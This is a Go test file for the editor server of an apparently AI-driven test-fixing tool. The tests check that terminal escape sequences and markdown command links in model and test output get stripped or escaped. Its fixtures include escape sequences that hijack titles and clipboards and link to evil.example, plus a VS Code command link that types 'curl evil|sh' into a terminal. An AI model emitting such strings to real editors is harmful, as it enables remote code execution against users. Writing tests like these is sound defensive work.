package server

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/fixpoint-dev/fixpoint/agent"
	"github.com/fixpoint-dev/fixpoint/config"
	"github.com/fixpoint-dev/fixpoint/sandbox/testrun"
)

// poison takes over a terminal-like view: title, OSC 52, OSC 8, cursor
// moves, 8-bit CSI, bidi override.
const poison = "\x1b]0;pwned\x07\x1b]52;c;eA==\x07\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\\x1b[2A\u009b31m\u202e"

// poisonLink is a dependency name that VS Code would render as a link
// running a command.
const poisonLink = "[left-pad](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)"

// poisonEngine asks for a poisoned dependency, warns, reports and ends
// with model and test text full of control sequences.
type poisonEngine struct{ *fakeEngine }

func newPoisonEngine(h Hooks) poisonEngine {
	fe := &fakeEngine{
		release: make(chan struct{}),
		Events: []agent.Event{
			{Phase: "code", Iteration: 1, MaxIterations: 2, Message: "reply not applied: " + poison},
			{Phase: "test", Iteration: 1, MaxIterations: 2, Message: "Iteration 1/2 · " + poison,
				Report: &testrun.Report{Failed: 1, Tests: []testrun.Result{{ID: "TestX" + poison, Name: "TestX" + poison, Status: testrun.StatusFail, File: "a.go", Line: 3, Message: poison}}}},
		},
		Result: agent.Result{StopReason: "max iterations: " + poison, Diff: "--- a/a.go\n+++ b/a.go\n+// " + poison + "\n",
			Iterations: []agent.Iteration{{N: 1}}, Final: &testrun.Report{Failed: 1}},
	}
	return poisonEngine{fe}
}

// TestPoisonedEditorMessages: a run whose model and tests print control
// sequences and whose dependency name is a markdown link reaches the
// editor with no control character in any message, and the approval
// question shows the link escaped.
func TestPoisonedEditorMessages(t *testing.T) {

	e := newFakeEditor(t, editorOptions{files: map[string]string{"go.mod": "module w\n", "a.go": statusWorkspaceA}, server: &Options{
		NewEngine: func(ctx context.Context, cfg *config.Config, root string, h Hooks) (Engine, error) {

			return approvingEngine{newPoisonEngine(h), h}, nil
		},
	}})
	e.initialize(vscodeCaps)
	e.wait("workspace/configuration", "")
	e.mustCall("workspace/executeCommand", map[string]any{"command": cmdFixTests, "arguments": []any{}})
	ask := e.wait("window/showMessageRequest", "left-pad")
	e.wait("window/showMessageRequest", "not verified")

	var req struct {
		Params struct{ Message string } `json:"params"`
	}
	if err := json.Unmarshal(ask, &req); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(req.Params.Message, "](") || !strings.Contains(req.Params.Message, `\[left-pad\]\(command:`) {
		t.Errorf("approval question = %q, want the link escaped", req.Params.Message)
	}
	e.rec.mu.Lock()
	msgs := append([]wire(nil), e.rec.msgs...)
	e.rec.mu.Unlock()
	seen := 0
	for _, m := range msgs {
		if m.out {
			continue
		}
		var v any
		if err := json.Unmarshal(m.raw, &v); err != nil {
			t.Fatal(err)
		}
		if s := unsafeString(v); s != "" {
			t.Errorf("%s carries a control sequence: %q", m.method, s)
		}
		if strings.Contains(string(m.raw), "click") {
			seen++
		}
	}
	if seen < 4 {
		t.Errorf("only %d messages quote the poisoned text: the test did not exercise the paths", seen)
	}
}

// approvingEngine asks Approve for a poisoned dependency and writes a
// poisoned warning before running.
type approvingEngine struct {
	poisonEngine
	h Hooks
}

func (a approvingEngine) Run(ctx context.Context, req agent.Request, onEvent func(agent.Event)) (*agent.Result, error) {
	if _, err := a.h.Approve(ctx, agent.Approval{Deps: []string{poisonLink + poison}}); err != nil {
		return nil, err
	}
	fmt.Fprintln(a.h.Warn, "setup: "+poison)
	return a.fakeEngine.Run(ctx, req, onEvent)
}

// unsafeString returns the first string in v with a control character.
func unsafeString(v any) string {
	switch v := v.(type) {
	case string:
		for _, r := range v {
			if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
				return v
			}
		}
	case []any:
		for _, x := range v {
			if s := unsafeString(x); s != "" {
				return s
			}
		}
	case map[string]any:
		for _, x := range v {
			if s := unsafeString(x); s != "" {
				return s
			}
		}
	}
	return ""
}

func TestPopupTextPerClient(t *testing.T) {
	tests := []struct{ client, want string }{
		{"", `\[a\]\(command:x) t`},
		{"Visual Studio Code", `\[a\]\(command:x) t`},
		{"Neovim", `[a](command:x) t`},
		{"emacs", `[a](command:x) t`},
	}
	for _, tt := range tests {
		s := &Server{opts: Options{Redact: func(s string) string { return s }}}
		s.caps.client = tt.client
		if got := s.popupText("[a](command:x) \x1b]0;x\x07t"); got != tt.want {
			t.Errorf("client %q: popupText = %q, want %q", tt.client, got, tt.want)
		}
	}
}

// TestMemoryUseIsLogged: the engine's announcement that the prompts use a
// remembered fix reaches the editor's progress and its log.
func TestMemoryUseIsLogged(t *testing.T) {
	eng := verifiedEngine()
	eng.Events = append([]agent.Event{{Phase: agent.PhaseMemory, Message: "using 1 past fix from memory: Median = 2, want 2.5 (2026-11-20)"}}, eng.Events...)
	e := newFakeEditor(t, editorOptions{engine: eng, files: map[string]string{"go.mod": "module w\n", "a.go": statusWorkspaceA}})
	e.initialize(vscodeCaps)
	e.wait("workspace/configuration", "")
	e.mustCall("workspace/executeCommand", map[string]any{"command": cmdFixTests, "arguments": []any{}})
	e.wait("$/progress", "using 1 past fix from memory")
	e.wait("window/logMessage", "fixpoint: using 1 past fix from memory: Median = 2, want 2.5 (2026-11-20)")
}
